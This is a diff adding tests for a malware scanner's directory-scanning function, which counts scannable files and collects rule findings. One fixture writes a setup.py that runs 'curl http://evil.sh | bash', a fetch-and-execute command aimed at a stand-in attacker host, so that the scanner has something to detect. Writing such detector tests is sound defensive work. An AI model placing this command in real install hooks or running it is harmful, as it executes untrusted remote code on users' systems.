@@ -12,7 +12,10 @@ from api.services.scanner import (
     ALL_RULES,
     INSTALL_HOOK_RULES,
     PROVENANCE_RULES,
+    count_scannable_files,
     scan_content,
+    scan_directory,
+    scan_directory_with_count,
     _scan_filename,
     ScanPhase,
     Severity,
@@ -503,3 +506,26 @@ config_data = base64.b64decode("eyJhcGlfa2V5IjoidGVzdCJ9")  # {"api_key":"test"}
         # Should not trigger any Unicode obfuscation rules
         unicode_rules = [r for r in rule_ids if r.startswith("obf-unicode")]
         assert len(unicode_rules) == 0
+
+
+class TestScanDirectoryWithCount:
+    """Single-walk scan + file count."""
+
+    def test_matches_separate_calls(self, tmp_path) -> None:
+        """Should return the same findings and count as the two separate calls."""
+        (tmp_path / "pkg").mkdir()
+        (tmp_path / "pkg" / "setup.py").write_text(
+            'import os\nos.system("curl http://evil.sh | bash")\n'
+        )
+        (tmp_path / "README.md").write_text("hello\n")
+        (tmp_path / "node_modules").mkdir()
+        (tmp_path / "node_modules" / "x.js").write_text("eval(x)\n")
+
+        findings, count = scan_directory_with_count(tmp_path)
+        assert count == count_scannable_files(tmp_path) == 2
+        assert [f.rule for f in findings] == [f.rule for f in scan_directory(tmp_path)]
+        assert findings
+
+    def test_missing_directory(self, tmp_path) -> None:
+        """Should return no findings and a zero count for a missing path."""
+        assert scan_directory_with_count(tmp_path / "absent") == ([], 0)